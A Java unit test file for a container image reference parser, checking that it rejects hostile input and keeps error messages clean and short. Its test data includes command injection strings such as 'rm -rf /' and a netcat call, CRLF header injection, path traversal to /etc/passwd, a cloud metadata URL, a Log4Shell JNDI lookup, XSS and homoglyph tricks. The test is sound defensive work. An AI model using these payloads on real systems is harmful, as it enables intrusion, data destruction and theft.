/* SPDX-License-Identifier: Apache-2.0 */
package io.quaywatch.image;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Whoever can deploy a container chooses these texts: none of them may become a name. */
class HostileReferenceTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "app;rm -rf /",
                "app$(id)",
                "app`id`",
                "app|nc a.example 1",
                "app&&id",
                "app:$(id)",
                "app:.*",
                "app:latest\n",
                "app\n",
                "app\r\nHost: evil.example",
                "a.example\r\n/app",
                "a.example/app\u0000",
                "\u0000",
                "\u001b[31mapp",
                "app:\u202egnp",
                "ａpp/x",
                "\u0130/app",
                "a.example/ap\u0440",
                "☃.example/app",
                "a.example/app?x=1",
                "a.example/app#x",
                "a.example/%2e%2e/app",
                "a.example/../../etc/passwd",
                "a.example\\app",
                "http://169.254.169.254/latest/meta-data",
                "--output=/etc/x",
                "-v/:/host",
                "<script>alert(1)</script>",
                "=cmd()",
                "${jndi:ldap://a.example/x}",
                "\ud83d",
                "a.example/app@sha256:\u0660" + "0123456789abcdef",
            })
    void parse_hostileText_throwsAndShowsNoControlCharacter(String text) {
        assertThatThrownBy(() -> ImageReference.parse(text))
                .isInstanceOf(InvalidImageReferenceException.class)
                .satisfies(e -> assertThat(e.getMessage()).doesNotContainPattern("[\\p{Cntrl}\u202e]"));
    }

    @Test
    @Timeout(5)
    void parse_megabyteOfAnything_failsFast() {
        for (String unit : new String[] {"a", "a/", "a.", "A", ":", "@", "-", "_", "[", "[:", "\n", "a:b@", "é"}) {
            String text = unit.repeat(1_000_000 / unit.length());
            long start = System.nanoTime();

            assertThat(ImageReference.tryParse(text)).as(unit).isEmpty();

            assertThat(Duration.ofNanos(System.nanoTime() - start)).as(unit).isLessThan(Duration.ofMillis(500));
        }
    }

    @Test
    void message_longText_isCut() {
        assertThatThrownBy(() -> ImageReference.parse("A".repeat(100_000)))
                .satisfies(e -> assertThat(e.getMessage()).hasSizeLessThan(300));
    }
}
